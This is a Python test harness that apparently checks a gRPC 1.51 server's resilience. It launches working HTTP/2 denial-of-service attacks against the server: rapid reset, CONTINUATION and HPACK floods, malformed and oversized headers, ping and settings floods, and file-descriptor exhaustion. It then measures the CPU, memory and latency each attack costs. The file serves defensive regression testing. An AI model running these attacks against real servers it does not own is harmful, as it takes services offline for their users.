#!/usr/bin/env python3
"""attacks.py HOST:PORT PID ATTACK,…: what is known against the HTTP/2 of gRPC 1.51, tried on a server that runs (tools/check-attacks).

For each attack: did the process live, how did it answer, how much processor time and memory did it cost, how long did the
slowest call of a well-behaved neighbour take meanwhile. An attack that ends the process, or after which the server takes no
new connection, or that costs more than its bound, fails."""
import os
import pathlib
import resource
import socket
import sys
import threading
import time

import http2
from http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, field, frame, integer, request

TICK = os.sysconf("SC_CLK_TCK")
CHECK = "/grpc.health.v1.Health/Check"
HUGE = 16 << 20  # bytes; far above every limit of the server
LONGEST = 10  # seconds that an attack without end goes on
PATIENCE = 40  # seconds that a well-behaved caller waits


def refused_or_answered(address, block):
    """Sends a call with this header block, cut into frames that are not too large, and says what came of it."""
    with http2.Connection(address) as connection:
        stream = connection.next_stream()
        parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        out = frame(HEADERS, END_HEADERS if len(parts) == 1 else 0, stream, parts[0])
        for part in parts[1:]:
            out += frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part)
        connection.send(out + frame(DATA, END_STREAM, stream, bytes(5)))
        return connection.read_end(stream)


def malformed_headers(address):
    """CVE-2023-1428: te, :scheme or grpclb_client_stats with a foreign value, then more than the limit of metadata."""
    seen = set()
    for size in (0, 9 << 10, 17 << 10, 40 << 10):
        padding = b"".join(field(f"x-{i}", b"x" * min(1000, size)) for i in range(size // 1000 + 1))
        for block in (request(CHECK, te="gzip"), request(CHECK, scheme="gopher"),
                      request(CHECK) + field("grpclb_client_stats", "x"),
                      field("te", "x") + request(CHECK), field("grpclb_client_stats", "x") + request(CHECK)):
            seen.add(refused_or_answered(address, block + padding))
            seen.add(refused_or_answered(address, padding + block))
    return "/".join(sorted(seen))


def send_until_cut(connection, pieces):
    """Sends until the server ends the connection, at most LONGEST; how many bytes it took."""
    sent, begin, cut = 0, time.monotonic(), ""
    try:
        for piece in pieces:
            connection.send(piece)
            sent += len(piece)
            if time.monotonic() - begin > LONGEST:
                break
    except socket.timeout:
        cut = ", then no more"
    except ConnectionError:
        cut = ", then the connection was ended"
    return f"{sent / (1 << 20):.1f} MiB taken in {time.monotonic() - begin:.1f} s{cut}"


def endless_string(address):
    """CVE-2023-33953: a header value that says it is 1 GiB long, in CONTINUATION frames."""
    with http2.Connection(address) as connection:
        stream = connection.next_stream()
        start = request(CHECK) + b"\x00" + http2.text(b"x") + integer(1 << 30, 7)
        pieces = [frame(HEADERS, 0, stream, start)] + [frame(CONTINUATION, 0, stream, b"x" * 16000)] * (HUGE // 16000)
        return send_until_cut(connection, pieces)


def endless_integer(address):
    """CVE-2023-33953: an integer with any number of leading zeros."""
    with http2.Connection(address) as connection:
        stream = connection.next_stream()
        start = request(CHECK) + b"\x00" + b"\x7f"
        pieces = [frame(HEADERS, 0, stream, start)] + [frame(CONTINUATION, 0, stream, b"\x80" * 16000)] * (HUGE // 16000)
        return send_until_cut(connection, pieces)


def endless_fields(address):
    """CVE-2023-33953 and the CONTINUATION flood: header fields without end, each small, never END_HEADERS."""
    with http2.Connection(address) as connection:
        stream = connection.next_stream()
        part = field("a", "1") * 2000
        pieces = [frame(HEADERS, 0, stream, request(CHECK))] + [frame(CONTINUATION, 0, stream, part)] * (HUGE // len(part))
        return send_until_cut(connection, pieces)


def rapid_reset(address):
    """CVE-2023-44487: 40,000 calls, each cancelled at once."""
    def pieces(connection):
        block = request("/edugroup.membership.v1.GroupService/GetGroup")
        for _ in range(400):
            out = b""
            for _ in range(100):
                stream = connection.next_stream()
                out += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
            yield out
    with http2.Connection(address) as connection:
        drain(connection)
        return send_until_cut(connection, pieces(connection))


def drain(connection):
    """Takes and forgets what the server sends."""
    def read():
        try:
            while connection.socket.recv(1 << 16):
                pass
        except OSError:
            pass
    threading.Thread(target=read, daemon=True).start()


def floods(address):
    """Pings and settings that must be acknowledged, 200,000 of each."""
    with http2.Connection(address) as connection:
        drain(connection)
        pings = send_until_cut(connection, [frame(PING, 0, 0, bytes(8)) * 1000] * 200)
    with http2.Connection(address) as connection:
        drain(connection)
        return pings + ", " + send_until_cut(connection, [frame(SETTINGS, 0, 0) * 1000] * 200)


def table_after_overflow(address):
    """CVE-2023-32731: headers that are too large change the HPACK table; the next call refers to what they put there."""
    with http2.Connection(address) as connection:
        stream = connection.next_stream()
        big = b"".join(field(f"x-{i}", b"x" * 1000) for i in range(20))
        connection.send(frame(HEADERS, 0, stream, request(CHECK) + big[:15000]) +
                        frame(CONTINUATION, END_HEADERS, stream, big[15000:] + field("x-late", "late", index=True)) +
                        frame(DATA, END_STREAM, stream, bytes(5)))
        first = connection.read_end(stream)
        if first in ("closed", "goaway"):
            return first
        return first + ", then " + connection.call(block=request(CHECK) + http2.indexed(62))


def broken_base64(address):
    """CVE-2023-32732: a -bin header that is no base64 must not end the connection for the calls of others on it."""
    with http2.Connection(address) as connection:
        first = connection.call(block=request(CHECK) + field("x-bin", "***"))
        try:
            return first + ", then " + connection.call()
        except OSError:
            return first + ", then closed"


def many_connections(address):
    """3,000 connections at once that say nothing."""
    return hold_connections(address, 3000)


def out_of_descriptors(address):
    """CVE-2023-4785: more connections than the process may have descriptors."""
    limits = pathlib.Path(f"/proc/{PID}/limits").read_text(encoding="ascii").splitlines()
    return hold_connections(address, int(next(line for line in limits if line.startswith("Max open files")).split()[3]) + 100)


def hold_connections(address, wanted):
    opened = []
    try:
        for _ in range(wanted):
            opened.append(socket.create_connection(address, 5))
            opened[-1].send(http2.PREFACE)
    except OSError:
        pass
    time.sleep(1)
    held = len(os.listdir(f"/proc/{PID}/fd"))
    for one in opened:
        one.close()
    return f"{len(opened)} connections made, {held} descriptors held"


# Attack, and what it may cost: seconds of processor, MiB of memory. Those that gRPC 1.51 does not bound are bounded by what
# LONGEST lets through, so that it is noticed if they become worse.
ATTACKS = [
    (malformed_headers, 3, 32), (table_after_overflow, 2, 32), (broken_base64, 2, 32), (many_connections, 10, 256), (floods, 10, 64),
    (endless_fields, 25, 2048), (endless_integer, 25, 2048), (endless_string, 25, 1024), (rapid_reset, 40, 2048),
    (out_of_descriptors, 10, 64),
]
# After it the connections that stand are served, and no other is taken until the process is started anew. Said here, so
# that it is noticed when it is mended.
STOPS_LISTENING = {out_of_descriptors}


def processor():
    fields = pathlib.Path(f"/proc/{PID}/stat").read_text(encoding="ascii").rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICK


def memory():
    status = pathlib.Path(f"/proc/{PID}/status").read_text(encoding="ascii")
    return int(status.split("VmRSS:")[1].split()[0]) / 1024


class Neighbour(threading.Thread):
    """Calls ten times a second on a connection of its own, made before the attack, and notes the slowest call and the most
    memory that the server had."""

    def __init__(self, address):
        super().__init__(daemon=True)
        self.connection = http2.Connection(address, timeout=PATIENCE)
        self.ended, self.slowest, self.failed, self.most = threading.Event(), 0, 0, 0
        self.start()

    def run(self):
        while not self.ended.wait(0.1):
            begin = time.monotonic()
            try:
                self.failed += self.connection.call() != "answered"
                self.most = max(self.most, memory())
            except OSError:
                self.failed += 1
                return
            self.slowest = max(self.slowest, time.monotonic() - begin)


def answers(address):
    """Whether the server takes a new connection and answers on it."""
    try:
        with http2.Connection(address, timeout=PATIENCE) as connection:
            return connection.call() == "answered"
    except OSError:
        return False


def attempt(address, attack, seconds, mebibytes):
    neighbour, before, began = Neighbour(address), processor(), memory()
    try:
        outcome = attack(address)
    except OSError as error:
        outcome = f"cut off: {error}"
    time.sleep(0.5)
    listens = answers(address)
    neighbour.ended.set()
    neighbour.join()
    cost, grown = processor() - before, max(neighbour.most, memory()) - began
    if not listens:
        outcome += "; **takes no new connection**"
    reason = ""
    if listens == (attack in STOPS_LISTENING):
        reason = f"afterwards it {'takes' if listens else 'does not take'} new connections"
    elif cost > seconds:
        reason = f"{cost:.1f} s of processor, at most {seconds}"
    elif grown > mebibytes:
        reason = f"{grown:.0f} MiB of memory, at most {mebibytes}"
    elif neighbour.failed:
        reason = f"{neighbour.failed} calls of the neighbour failed"
    return [outcome, f"{cost:.1f}", f"{max(0, grown):.0f}", f"{neighbour.slowest * 1000:.0f}"], reason


def main():
    global PID
    host, port = sys.argv[1].rsplit(":", 1)
    PID = int(sys.argv[2])
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    wanted = sys.argv[3].split(",")
    failed = []
    print("| Attack | Outcome | Processor, s | Memory, MiB | Neighbour's slowest call, ms |\n|---|---|---|---|---|")
    for attack, seconds, mebibytes in ATTACKS:
        if attack.__name__ not in wanted:
            continue
        columns, reason = attempt((host, int(port)), attack, seconds, mebibytes)
        print("| " + " | ".join([attack.__doc__] + columns) + " |", flush=True)
        if reason:
            failed.append(f"{attack.__name__}: {reason}")
    print("\n".join(failed), file=sys.stderr)
    sys.exit(bool(failed))


main()
